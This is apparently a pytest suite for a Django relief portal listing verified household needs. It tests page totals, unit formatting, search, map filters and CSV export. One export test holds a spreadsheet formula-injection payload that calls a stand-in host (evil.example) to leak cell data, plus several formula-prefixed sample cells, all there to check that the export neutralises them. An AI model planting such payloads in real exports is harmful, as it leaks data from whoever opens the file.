"""The public pages show the right content, with and without filters, and without JavaScript."""

from __future__ import annotations

import csv
import html
import io
import re
from decimal import Decimal
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from django.template import Context, Template
from django.test import Client
from django.urls import reverse
from django.utils import translation

from cuutro.needs.services import NeedItemData
from cuutro.portal.exports import csv_safe as _csv_safe

ENGLISH = {"HTTP_ACCEPT_LANGUAGE": "en"}


def test_home_page_totals_count_only_published_needs(cast: Any, make_need: Any) -> None:
    make_need("verified", items=[NeedItemData("roofing-sheet", 30), NeedItemData("cash-house-repair", 5_000_000)])
    make_need("verified", kind="community", description="Nhà văn hóa bị tốc mái.", items=[NeedItemData("roofing-sheet", 12)])
    make_need("submitted", items=[NeedItemData("roofing-sheet", 999)])
    page = Client(**ENGLISH).get("/").content.decode()
    assert '<b>2</b>open verified needs' in page
    assert '<b>1</b>households waiting for help' in page
    assert "42 sheets" in page  # 30 + 12; the submitted 999 is not public yet
    assert "5,000,000 VND" in page


def test_unit_names_agree_with_the_quantity(cast: Any, make_need: Any) -> None:
    need = make_need("verified", items=[NeedItemData("roofing-sheet", 1), NeedItemData("blanket", 3), NeedItemData("rice", "2.5")])
    page = Client(**ENGLISH).get(reverse("portal:need_detail", args=[need.code])).content.decode()
    assert "1 sheet<" in page and "1 sheets" not in page
    assert "3 pieces" in page
    assert "2.5 kg" in page
    card = Client(**ENGLISH).get("/needs/").content.decode()
    assert "1 sheet<" in card and "3 pieces" in card


@pytest.mark.parametrize(
    ("language", "quantity", "unit", "expected"),
    [
        ("en", 42, "sheet", "42 sheets"),
        ("en", Decimal("1.00"), "sheet", "1 sheet"),
        ("en", Decimal("1.5"), "litre", "1.5 litres"),
        ("en", 1_500_000, "vnd", "1,500,000 VND"),
        ("en", 2, "head", "2 head"),
        ("vi", 42, "sheet", "42 tấm"),
        ("vi", 1, "sheet", "1 tấm"),
        ("vi", 1_500_000, "vnd", "1.500.000 đồng"),
    ],
)
def test_the_with_unit_filter_formats_the_number_and_names_the_unit(
    language: str, quantity: Any, unit: str, expected: str
) -> None:
    template = Template("{% load cuutro %}{{ quantity|with_unit:unit }}")
    with translation.override(language):
        assert template.render(Context({"quantity": quantity, "unit": unit})) == expected


def test_home_page_in_vietnamese_uses_vietnamese_number_format(cast: Any, make_need: Any) -> None:
    make_need("verified", items=[NeedItemData("cash-house-repair", 15_000_000)])
    page = Client(HTTP_ACCEPT_LANGUAGE="vi").get("/").content.decode()
    assert "15.000.000" in page
    assert "Cổng thông tin Cứu trợ" in page


def test_search_works_without_javascript_and_paginates(cast: Any, make_need: Any) -> None:
    codes = {make_need("verified").code for _ in range(23)}
    first = Client(**ENGLISH).get("/needs/", {"q": "dong ha"})
    page1 = first.content.decode()
    assert "23 needs found" in page1
    assert "page=2" in page1
    second = Client(**ENGLISH).get("/needs/", {"q": "dong ha", "page": 2}).content.decode()
    shown = {c for c in codes if reverse("portal:need_detail", args=[c]) in page1 + second}
    assert shown == codes


def test_search_filters_by_province_and_commune(cast: Any, make_need: Any) -> None:
    in_a = make_need("verified")
    in_b = make_need("verified", area=cast.commune_b, creator=cast.officer_b, verifier=cast.province_member)
    client = Client(**ENGLISH)
    by_commune = client.get("/needs/", {"province": "44", "commune": cast.commune_b.code}).content.decode()
    assert reverse("portal:need_detail", args=[in_b.code]) in by_commune
    assert reverse("portal:need_detail", args=[in_a.code]) not in by_commune
    by_province = client.get("/needs/", {"province": "46"}).content.decode()
    assert "0 needs found" in by_province
    # The commune list follows the chosen province.
    assert "Xã Gio Linh" in by_commune and "Xã Nam Đông" not in by_commune


def test_need_detail_lists_what_is_still_needed(cast: Any, make_need: Any) -> None:
    need = make_need("verified", items=[NeedItemData("rice", "50.5"), NeedItemData("piglet", 2)])
    page = Client(**ENGLISH).get(reverse("portal:need_detail", args=[need.code])).content.decode()
    assert "Rice" in page and "50.5 kg" in page
    assert "Piglet" in page and "2 head" in page
    assert "Phường Đông Hà" in page


def test_the_verification_note_is_true_when_a_province_member_verified(cast: Any, make_need: Any) -> None:
    need = make_need("verified", area=cast.commune_b, creator=cast.officer_b, verifier=cast.province_member)
    page = Client(**ENGLISH).get(reverse("portal:need_detail", args=[need.code])).content.decode()
    assert "two officers" not in page and "two commune officers" not in page
    assert "by an official other than the one who recorded it" in page


def test_a_code_typed_without_accents_or_dash_redirects_to_the_need(cast: Any, make_need: Any) -> None:
    need = make_need("verified")
    typed = need.code.replace("Đ", "D").replace("-", "").lower()
    response = Client().get(f"/needs/{typed}/")
    assert response.status_code == 301
    assert response["Location"] == reverse("portal:need_detail", args=[need.code])


def test_the_map_uses_the_configured_tile_server(cast: Any, settings: Any) -> None:
    settings.MAP_TILE_URL = "https://tiles.quangtri.example/{z}/{x}/{y}.png"
    page = Client().get("/needs/map/").content.decode()
    assert 'data-tiles="https://tiles.quangtri.example/{z}/{x}/{y}.png"' in page
    assert 'data-points="/api/v1/needs/points"' in page


def points_url(page: str) -> str:
    match = re.search(r'data-points="([^"]*)"', page)
    assert match, "the map page has no points URL"
    return html.unescape(match.group(1))


def point_codes(client: Client, url: str) -> set[str]:
    response = client.get(url)
    assert response.status_code == 200
    return {p["code"] for p in response.json()["items"]}


def test_the_map_shows_only_the_points_of_the_chosen_commune(cast: Any, make_need: Any) -> None:
    in_a = make_need("verified")
    in_b = make_need("verified", area=cast.commune_b, creator=cast.officer_b, verifier=cast.province_member)
    client = Client(**ENGLISH)
    url = points_url(client.get("/needs/map/", {"province": cast.province.code, "commune": cast.commune_b.code}).content.decode())
    assert parse_qs(urlsplit(url).query) == {"area": [cast.commune_b.code]}
    assert point_codes(client, url) == {in_b.code}
    # The province alone covers both of its communes; the other filters travel along.
    url = points_url(client.get("/needs/map/", {"province": cast.province.code}).content.decode())
    assert point_codes(client, url) == {in_a.code, in_b.code}
    url = points_url(client.get("/needs/map/", {"province": cast.province.code, "q": "gio linh", "urgency": "high"}).content.decode())
    assert parse_qs(urlsplit(url).query) == {"area": [cast.province.code], "q": ["gio linh"], "urgency": ["high"]}
    assert point_codes(client, url) == {in_b.code}


def test_see_on_the_map_leads_to_a_map_of_the_needs_commune(cast: Any, make_need: Any) -> None:
    need = make_need("verified", area=cast.commune_b, creator=cast.officer_b, verifier=cast.province_member)
    make_need("verified")  # commune A: not on this map
    client = Client(**ENGLISH)
    detail = client.get(reverse("portal:need_detail", args=[need.code])).content.decode()
    match = re.search(r'<a href="([^"]*)">See on the map</a>', detail)
    assert match
    url = points_url(client.get(html.unescape(match.group(1))).content.decode())
    assert point_codes(client, url) == {need.code}


def test_export_has_one_row_per_item_of_published_needs(cast: Any, make_need: Any) -> None:
    need = make_need("verified", items=[NeedItemData("rice", 20), NeedItemData("blanket", 4)])
    make_need("draft")
    response = Client().get("/needs/export.csv")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [(r["code"], r["item"], r["quantity"]) for r in rows] == [(need.code, "rice", "20.00"), (need.code, "blanket", "4.00")]
    assert rows[0]["commune"] == "Phường Đông Hà"


def test_the_export_defuses_text_that_a_spreadsheet_would_run_as_a_formula(cast: Any, make_need: Any) -> None:
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem ảnh nhà")'
    make_need("verified", description=formula, items=[NeedItemData("rice", 20)])
    response = Client().get("/needs/export.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0]["description"] == "'" + formula
    assert rows[0]["quantity"] == "20.00"  # numbers stay numbers


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tfoo", "\rfoo"])
def test_a_cell_starting_like_a_formula_gets_a_quote(text: str) -> None:
    assert _csv_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Nhà bị tốc mái", "HGĐ-7K3F9", "", "a=b", Decimal("20.00")])
def test_other_cells_are_left_alone(value: Any) -> None:
    assert _csv_safe(value) == value
